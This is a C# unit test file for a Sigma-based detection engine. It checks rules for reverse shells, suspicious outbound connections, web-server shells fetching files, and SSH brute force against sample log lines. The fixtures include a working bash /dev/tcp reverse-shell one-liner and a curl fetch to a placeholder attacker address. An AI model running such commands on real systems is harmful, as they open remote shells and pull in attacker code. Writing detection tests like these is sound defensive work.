using Bulwark.Scanners.Detection.Engine;
using Bulwark.Scanners.Detection.Parsing;
using Bulwark.Scanners.Detection.Pipelines;
using Bulwark.Scanners.Detection.Sigma.Compiling;
using Bulwark.Scanners.Detection.Sigma.Loading;
using Bulwark.Scanners.Detection.Tests.Sigma;
using Bulwark.Sdk;

namespace Bulwark.Scanners.Detection.Tests.Engine;

/// <summary>Logs read by the parsers, rules bound through the pipeline, correlations on top: the room end to end.</summary>
public sealed class DetectionEngineTests : IDisposable
{
    private const string Rules = """
        title: Reverse shell through /dev/tcp
        id: 5b1b7c52-5c0c-4c1e-9d0b-1a2b3c4d5e01
        status: test
        level: high
        logsource: { product: linux, category: process_creation }
        detection:
          selection:
            CommandLine|contains: '/dev/tcp/'
          condition: selection
        ---
        title: Failed SSH password
        id: 5b1b7c52-5c0c-4c1e-9d0b-1a2b3c4d5e02
        name: ssh_failed
        status: test
        level: low
        logsource: { product: linux, service: sshd }
        detection:
          keywords:
            - 'Failed password'
          condition: keywords
        ---
        title: SSH brute force
        id: 5b1b7c52-5c0c-4c1e-9d0b-1a2b3c4d5e03
        status: test
        level: high
        correlation:
          type: event_count
          rules: [ssh_failed]
          group-by: [src_ip]
          timespan: 1m
          condition: { gte: 3 }
        """;

    private readonly string _directory = Directory.CreateTempSubdirectory("bulwark-detect-").FullName;

    public void Dispose() => Directory.Delete(_directory, recursive: true);

    [Fact]
    public void A_process_creation_rule_matches_json_lines_as_they_are_and_auditd_through_the_mapping()
    {
        var engine = Engine(Rules, out var problems);
        Assert.Empty(problems);

        var json = Detect(engine, "proc.jsonl", """
            {"Image":"/usr/bin/bash","CommandLine":"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1","User":"www-data"}
            {"Image":"/usr/bin/ls","CommandLine":"ls -la","User":"root"}
            """);
        var auditd = Detect(engine, "audit.log", """
            type=SYSCALL msg=audit(1710060000.123:4521): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=8 items=1 ppid=2301 pid=2388 auid=1000 uid=33 gid=33 euid=33 comm="bash" exe="/usr/bin/bash" key="exec"
            type=EXECVE msg=audit(1710060000.123:4521): argc=3 a0="bash" a1="-c" a2="exec 5<>/dev/tcp/203.0.113.7/4444"
            type=EOE msg=audit(1710060000.123:4521):
            """);

        Assert.Equal([("Reverse shell through /dev/tcp", 1L)], json.Select(d => (d.Title, d.Events[0].Line)));
        var hit = Assert.Single(auditd);
        Assert.Equal("Reverse shell through /dev/tcp", hit.Title);
        Assert.Equal([1L, 2L, 3L], hit.Events[0].Lines);
    }

    [Fact]
    public void A_network_connection_rule_reads_the_peer_of_an_auditd_connect_from_its_sockaddr_record()
    {
        var engine = Engine("""
            title: Connection to the lab's C2 range on 4444
            id: 5b1b7c52-5c0c-4c1e-9d0b-1a2b3c4d5e05
            level: high
            logsource: { product: linux, category: network_connection }
            detection:
              selection: { DestinationIp|cidr: 203.0.113.0/24, DestinationPort: 4444 }
              condition: selection
            """, out var problems);
        Assert.Empty(problems);

        var detections = Detect(engine, "audit.log", """
            type=SYSCALL msg=audit(1710060100.000:5000): arch=c000003e syscall=42 success=no exit=-115 a0=3 a1=7ffd a2=10 a3=0 items=0 ppid=1 pid=4242 auid=1000 uid=33 gid=33 euid=33 comm="nc" exe="/usr/bin/nc.openbsd" key="net"
            type=SOCKADDR msg=audit(1710060100.000:5000): saddr=0200115CCB0071070000000000000000
            type=EOE msg=audit(1710060100.000:5000):
            type=SYSCALL msg=audit(1710060101.000:5001): arch=c000003e syscall=42 success=yes exit=0 a0=3 a1=7ffd a2=10 a3=0 items=0 ppid=1 pid=4243 auid=1000 uid=33 gid=33 euid=33 comm="curl" exe="/usr/bin/curl" key="net"
            type=SOCKADDR msg=audit(1710060101.000:5001): saddr=020001BBC63364090000000000000000
            type=EOE msg=audit(1710060101.000:5001):
            """);

        var hit = Assert.Single(detections);
        Assert.Equal("/usr/bin/nc.openbsd", hit.Events[0].Fields["exe"].Single);
        Assert.Equal("203.0.113.7", hit.Events[0].Fields["saddr.ip"].Single);
    }

    [Fact]
    public void An_auditd_exec_names_its_parent_when_the_log_showed_the_parents_own_exec()
    {
        var engine = Engine("""
            title: A web server's shell fetching something
            id: 5b1b7c52-5c0c-4c1e-9d0b-1a2b3c4d5e06
            level: high
            logsource: { product: linux, category: process_creation }
            detection:
              selection: { ParentImage|endswith: '/sh', Image|endswith: '/curl', ParentCommandLine|contains: 'cd /var/www' }
              condition: selection
            """, out var problems);
        Assert.Empty(problems);

        var detections = Detect(engine, "audit.log", """
            type=SYSCALL msg=audit(1710060200.000:6000): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=1 ppid=900 pid=1000 auid=4294967295 uid=33 gid=33 euid=33 comm="sh" exe="/usr/bin/sh" key="exec"
            type=EXECVE msg=audit(1710060200.000:6000): argc=3 a0="sh" a1="-c" a2="cd /var/www && curl -s http://203.0.113.7/x"
            type=EOE msg=audit(1710060200.000:6000):
            type=SYSCALL msg=audit(1710060200.100:6001): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=1 ppid=1000 pid=1001 auid=4294967295 uid=33 gid=33 euid=33 comm="curl" exe="/usr/bin/curl" key="exec"
            type=EXECVE msg=audit(1710060200.100:6001): argc=3 a0="curl" a1="-s" a2="http://203.0.113.7/x"
            type=EOE msg=audit(1710060200.100:6001):
            type=SYSCALL msg=audit(1710060200.200:6002): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=1 ppid=4242 pid=1002 auid=1000 uid=0 gid=0 euid=0 comm="curl" exe="/usr/bin/curl" key="exec"
            type=EXECVE msg=audit(1710060200.200:6002): argc=2 a0="curl" a1="http://localhost/health"
            type=EOE msg=audit(1710060200.200:6002):
            """);

        var hit = Assert.Single(detections);
        Assert.Equal("/usr/bin/sh", hit.Events[0].Fields["ParentImage"].Single);
        Assert.Equal([4L, 5L, 6L], hit.Events[0].Lines);
    }

    [Fact]
    public void A_correlation_fires_per_group_and_its_referred_rule_does_not_report_on_its_own()
    {
        var engine = Engine(Rules, out _);
        var lines = string.Join("\n", Enumerable.Range(0, 4).Select(i =>
            $"Nov 22 10:00:0{i} web-1 sshd[{100 + i}]: Failed password for root from {(i == 3 ? "198.51.100.2" : "203.0.113.9")} port 4{i}000 ssh2"));

        var detections = Detect(engine, "auth.log", lines + "\nNov 22 10:00:09 web-1 sshd[200]: Failed password for admin from 203.0.113.9 port 45000 ssh2");

        var burst = Assert.Single(detections);
        Assert.Equal("SSH brute force", burst.Title);
        Assert.Equal("src_ip=203.0.113.9", burst.Group);
        Assert.Equal([1L, 2L, 3L], burst.Events.Select(e => e.Line));
    }

    [Fact]
    public void A_rule_whose_log_source_no_pipeline_covers_is_refused_with_the_reason()
    {
        Engine("""
            title: Windows only
            id: 5b1b7c52-5c0c-4c1e-9d0b-1a2b3c4d5e04
            logsource: { product: windows, category: registry_set }
            detection: { selection: { TargetObject|contains: 'Run' }, condition: selection }
            """, out var problems);

        Assert.Contains(problems, p => p.Message.Contains("no pipeline maps log source windows/registry_set", StringComparison.Ordinal));
    }

    [SharedSigmaFact]
    public void Every_sigmahq_linux_rule_loads_compiles_and_is_bound_to_a_log_format()
    {
        var loaded = SigmaLoader.Load([SharedSigma.LinuxRules!]);
        var (compiled, compileProblems) = SigmaCompiler.CompileAll(loaded.Rules);
        var problems = new List<ConfigProblem>([.. loaded.Problems, .. compileProblems]);

        var engine = new DetectionEngine(compiled, loaded.Correlations, PipelineLoader.BuiltIn(), problems);

        Assert.Empty(problems);
        Assert.Equal(210, engine.RuleCount);
    }

    private static DetectionEngine Engine(string rules, out List<ConfigProblem> problems)
    {
        var loaded = SigmaLoader.LoadTexts([("rules.yml", rules)]);
        var (compiled, compileProblems) = SigmaCompiler.CompileAll(loaded.Rules);
        problems = [.. loaded.Problems, .. compileProblems];
        return new DetectionEngine(compiled, loaded.Correlations, PipelineLoader.BuiltIn(), problems);
    }

    private List<DetectionResult> Detect(DetectionEngine engine, string name, string text)
    {
        var path = Path.Combine(_directory, name);
        File.WriteAllText(path, text + "\n");
        using var log = new LogReader().Open(path);
        return [.. log.Events().SelectMany(engine.Evaluate)];
    }
}
